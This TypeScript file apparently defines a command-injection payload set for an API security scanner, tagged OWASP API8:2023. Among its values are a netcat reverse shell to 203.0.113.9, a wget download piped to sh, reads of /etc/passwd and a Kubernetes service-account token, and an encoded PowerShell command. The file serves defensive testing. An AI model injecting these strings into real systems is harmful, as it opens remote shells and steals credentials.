import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'injection-shell',
  title: 'shell commands in the place of values',
  owasp: ['API8:2023'],
  inputs: ['text', 'path'],
  values: [
    '; id',
    '| cat /etc/passwd',
    '$(whoami)',
    '`uname -a`',
    '&& curl http://#.evil.example/',
    '; ping -c 4 127.0.0.1',
    '| nc -e /bin/sh 203.0.113.9 4444',
    '; wget http://203.0.113.9/x.sh -O- | sh',
    '$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)',
    '%0a id',
    '; sleep 8',
    '|| powershell -enc SQBFAFgA',
  ],
})
